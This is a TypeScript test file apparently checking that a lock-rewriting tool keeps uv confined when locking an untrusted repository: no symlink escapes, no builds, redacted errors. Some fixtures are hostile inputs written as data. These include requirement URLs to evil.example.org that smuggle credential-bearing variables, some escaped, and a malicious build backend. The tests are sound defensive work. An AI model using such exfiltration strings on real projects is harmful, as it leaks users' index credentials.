import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { rewrite } from '../../src/rewrite/rewrite.ts'
import { type ProjectIndexes, serveProjectIndexes } from '../loopback/uv-projects.ts'
import { sandbox } from '../sandbox.ts'

/** What uv is given, and told of it, where a stranger's repository has its lock made. A program stands in for uv. */

const box = sandbox()
let indexes: ProjectIndexes
beforeAll(async () => {
  indexes = await serveProjectIndexes()
})
afterAll(() => indexes.close())

const app = (needs = '"torch"', more = '') =>
  `[project]\nname = "app"\nversion = "1"\nrequires-python = ">=3.11"\ndependencies = [${needs}]\n${more}`
const source = (place: string, more = '') => `[tool.uv.sources]\nevil = { path = '${place}'${more} }\n`
const own = (name: string, needs = '') =>
  `[[package]]\nname = "${name}"\nversion = "1"\nsource = { virtual = "${name}" }\n${needs}`
const lock = () => `version = 1
requires-python = ">=3.11"

[manifest]
members = ["app", "m"]

${own('app', 'dependencies = [{ name = "torch" }]\n')}
${own('m')}
[[package]]
name = "torch"
version = "2.12.0"
source = { registry = "${indexes.main}" }
wheels = [{ url = "${indexes.main.replace('simple', 'files')}/torch-2.12.0-cp311-cp311-manylinux_2_28_x86_64.whl" }]
`

interface Ground {
  readonly repository: string
  /** Beside the repository. */
  readonly outside: string
  readonly bin: string
  readonly log: string
}

/** A repository, a file beside it that is none of its business, and a uv that notes how it is started. */
function ground(files: Readonly<Record<string, string>>, links: Readonly<Record<string, string>> = {}): Ground {
  const folder = mkdtempSync(join(box.temporary, 'ground-'))
  const [repository, outside, bin] = ['repository', 'outside', 'bin'].map(name => join(folder, name)) as [
    string,
    string,
    string,
  ]
  const put = (path: string, text: string) => {
    mkdirSync(dirname(path), { recursive: true })
    writeFileSync(path, text)
  }
  put(join(outside, 'pyproject.toml'), '[project]\nname = "m"\nversion = "1"\n# hunter2\n')
  put(join(outside, 'uv.lock'), lock())
  for (const [name, text] of Object.entries({ '.git/HEAD': '', 'uv.lock': lock(), ...files }))
    if (!(name in links)) put(join(repository, name), text.replaceAll('{OUTSIDE}', outside))
  for (const [name, to] of Object.entries(links)) {
    mkdirSync(dirname(join(repository, name)), { recursive: true })
    symlinkSync(join(outside, to), join(repository, name))
  }
  const log = join(folder, 'log')
  put(join(bin, 'answer'), 'exit 2')
  put(
    join(bin, 'uv'),
    `#!/bin/bash\ncase "$1" in --version) echo 'uv 0.13.9';; cache) pwd;; *) { echo "$*"; env; } > '${log}'; . '${bin}/answer';; esac\n`,
  )
  chmodSync(join(bin, 'uv'), 0o755)
  return { repository, outside, bin, log }
}

async function rewriting({ repository, bin }: Ground, variables: Readonly<Record<string, string>> = {}) {
  const { result } = await rewrite(['.'], {
    cwd: repository,
    cpuIndexUrl: indexes.cpu,
    indexUrl: indexes.main,
    cacheDir: join(box.temporary, 'cache'),
    environment: { ...box.environment, PATH: `${bin}:/usr/bin:/bin`, ...variables },
    sizes: false,
  })
  return result.files.flatMap(({ diagnostics }) =>
    diagnostics.flatMap(({ code, message }) => (code === 'lock-stale' ? message : [])),
  )
}

const workspace = '[tool.uv.workspace]\nmembers = ["m"]\n'
const member = '[project]\nname = "m"\nversion = "1"\n'
const needsEvil = '"torch", "evil"'

describe.skipIf(process.platform === 'win32')('the lock stays, and no uv is started, where', () => {
  test.each([
    {
      id: 'a member is a link out of the repository',
      files: { 'pyproject.toml': app('"torch"', workspace) },
      links: { 'm/pyproject.toml': 'pyproject.toml' },
      because: 'm/pyproject.toml lies outside of the repository',
    },
    {
      id: 'the lock is a link out of the repository',
      files: { 'pyproject.toml': app() },
      links: { 'uv.lock': 'uv.lock' },
      because: 'uv.lock lies outside of the repository',
    },
    {
      id: 'the settings are a link out of the repository',
      files: { 'pyproject.toml': app() },
      links: { 'uv.toml': 'pyproject.toml' },
      because: 'uv.toml lies outside of the repository',
    },
    {
      id: 'a source names a folder that is a link out of the repository',
      files: { 'pyproject.toml': app(needsEvil, source('evil')) },
      links: { evil: '.' },
      because: 'evil/pyproject.toml lies outside of the repository',
    },
    {
      id: 'a source names a folder outside of the repository',
      files: { 'pyproject.toml': app(needsEvil, source('../outside')) },
      because: '../outside/pyproject.toml lies outside of the repository',
    },
    {
      id: 'a source names a folder by its whole path, which uv would build there',
      files: { 'pyproject.toml': app(needsEvil, source('{OUTSIDE}', ', editable = true')) },
      because: 'pyproject.toml:7 names a place by its whole path',
    },
    {
      id: 'a requirement names a file of this machine',
      files: { 'pyproject.toml': app('"torch", "evil @ file://{OUTSIDE}"') },
      because: 'pyproject.toml:5 names a place by its whole path',
    },
    {
      id: 'what it needs is in a table of Poetry, which uv has the backend read',
      files: {
        'pyproject.toml':
          '[project]\nname = "app"\nversion = "1"\n[tool.poetry]\n[dependency-groups]\ndev = ["torch"]\n[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\n',
      },
      because: 'uv would run code of pyproject.toml to do so; --allow-builds lets it',
    },
  ])('$id', async ({ files, links, because }) => {
    const place = ground({ 'm/pyproject.toml': member, ...files } as Record<string, string>, links)
    expect(await rewriting(place)).toEqual([`uv.lock is not updated yet: ${because}`])
    expect(existsSync(place.log)).toBe(false)
    expect(readFileSync(join(place.outside, 'pyproject.toml'), 'utf8')).toMatch(/^\[project\]\nname = "m"/)
  })
})

describe.skipIf(process.platform === 'win32')('uv', () => {
  const files = { 'pyproject.toml': app('"torch"', workspace), 'm/pyproject.toml': member }
  const answer = ({ bin }: Ground, script: string) => writeFileSync(join(bin, 'answer'), script)

  test('is told to build nothing, and to fetch nothing to build with', async () => {
    const place = ground(files)
    await rewriting(place)
    expect(readFileSync(place.log, 'utf8').split('\n')[0]).toMatch(
      /^lock --no-progress --no-python-downloads --no-build --no-build-isolation --keyring-provider disabled /,
    )
  })

  test.each([
    ['as it is', '"evil @ https://evil.example.org/${UV_INDEX_URL}/evil-1-py3-none-any.whl"'],
    ['by the number of a character', '"evil @ https://evil.example.org/$\\u007BUV_INDEX_URL}/evil-1-py3-none-any.whl"'],
    ['by a longer number', '"evil @ https://evil.example.org/\\U00000024{UV_INDEX_URL}/evil-1-py3-none-any.whl"'],
    ['in a string of two lines', '"""evil @ https://evil.example.org/$\\\n  {UV_INDEX_URL}/evil-1-py3-none-any.whl"""'],
  ])('has no variable that a file names %s, and no password of a named index', async (_, need) => {
    const place = ground({ ...files, 'pyproject.toml': app(`"torch", ${need}`, workspace) })
    const url = 'https://user:hunter2@index.example.org/simple'
    await rewriting(place, { UV_INDEX_URL: url, PIP_INDEX_URL: url, UV_INDEX_X_PASSWORD: 'hunter2' })
    const log = readFileSync(place.log, 'utf8')
    expect(log).toMatch(/^PATH=/m)
    expect(log).not.toMatch(/hunter2/)
  })

  test('has the addresses of the indexes that the user set, where no file names them', async () => {
    const place = ground(files)
    await rewriting(place, { UV_INDEX_URL: 'https://index.example.org/simple' })
    expect(readFileSync(place.log, 'utf8')).toMatch(/^UV_INDEX_URL=https:\/\/index\.example\.org\/simple$/m)
  })

  test('is quoted on one line, without the text of files, passwords and places of a moment', async () => {
    const place = ground(files)
    answer(
      place,
      `cat >&2 <<END\nerror: Failed to build \\\`$PWD/m\\\`\n  cause: TOML parse error\n    |\n  1 | hunter2\n    | ^\n  cause: https://user:hunter2@host/x\nEND\nexit 2\n`,
    )
    expect(await rewriting(place)).toEqual([
      'uv.lock is not updated yet: uv 0.13.9 failed: Failed to build `m`: TOML parse error: https://****@host/x',
    ])
  })

  test('does not have its lock taken where that lacks a member that torchpin does not read', async () => {
    const place = ground({
      'pyproject.toml': app('"torch"', '[tool.uv.workspace]\nmembers = ["vendor/m"]\n'),
      'vendor/m/pyproject.toml': member,
    })
    const made = lock().replace(own('m'), '')
    expect(made).not.toBe(lock())
    answer(place, `cat > uv.lock <<'END'\n${made}END\nexit 0\n`)
    expect(await rewriting(place)).toEqual([
      'uv.lock is not updated yet: made here it would lack m, which no folder of the workspace that torchpin reads has',
    ])
  })
})
